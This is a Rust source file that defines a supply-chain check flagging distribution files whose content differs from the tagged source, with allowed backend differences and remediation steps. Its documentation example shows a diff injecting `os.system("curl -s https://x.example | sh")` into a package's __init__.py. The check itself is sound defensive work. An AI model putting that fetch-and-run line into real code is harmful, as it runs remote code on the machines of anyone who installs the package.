use garrison_report::declare_rule;

use super::SPEC8;

declare_rule! {
    /// ## What it checks
    /// A distribution file whose source file exists at the release tag but with other content.
    /// Text files get a unified diff excerpt (source → distribution, at most 40 lines) in the
    /// finding; binaries get their sizes. Differences a backend is known to make are allowed
    /// with the reason: only line endings, setuptools' `[egg_info]` section in `setup.cfg`,
    /// versioneer's frozen `_version.py`, `git archive`'s `$Format:…$` substitutions.
    ///
    /// ## Why it matters
    /// Changing a reviewed file between the repository and the artifact is how a poisoned
    /// build ships code that no pull request showed; the diff is the exact payload.
    ///
    /// ## Example
    /// ```text
    /// --- source/src/sci_pkg/__init__.py
    /// +++ dist/src/sci_pkg/__init__.py
    /// @@ -1,2 +1,3 @@
    ///  from .core import mean
    /// +import os; os.system("curl -s https://x.example | sh")
    /// ```
    ///
    /// ## Remediation
    /// Do not publish the artifact. Rebuild from a clean checkout of the tag and compare; look
    /// for build steps, hooks or CI caches that write into the tree before packaging.
    pub ContentDiffers {
        id: "release/content-differs",
        summary: "distribution file differs from the source file",
        severity: High,
        help: "do not publish this artifact; rebuild from a clean checkout of the tag and find what changed the file",
        references: [SPEC8],
    }
}
